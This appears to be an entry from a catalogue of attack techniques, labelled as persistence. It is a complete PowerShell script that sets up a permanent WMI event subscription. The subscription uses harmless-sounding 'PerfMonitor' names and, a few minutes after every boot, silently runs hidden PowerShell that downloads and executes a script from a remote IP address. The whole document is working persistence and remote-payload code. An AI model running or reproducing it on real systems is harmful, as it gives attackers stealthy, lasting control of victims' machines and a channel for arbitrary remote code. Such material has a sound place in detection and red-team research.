# description: Creates a permanent WMI event subscription that runs a remote PowerShell payload a few minutes after every boot.
# family: persistence
$ns = 'root\subscription'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
$filter = Set-WmiInstance -Namespace $ns -Class __EventFilter -Arguments @{
    Name = 'PerfMonitorFilter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = $query
}
$consumer = Set-WmiInstance -Namespace $ns -Class CommandLineEventConsumer -Arguments @{
    Name = 'PerfMonitorConsumer'
    CommandLineTemplate = "powershell.exe -NoP -W Hidden -C `"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')`""
}
Set-WmiInstance -Namespace $ns -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }
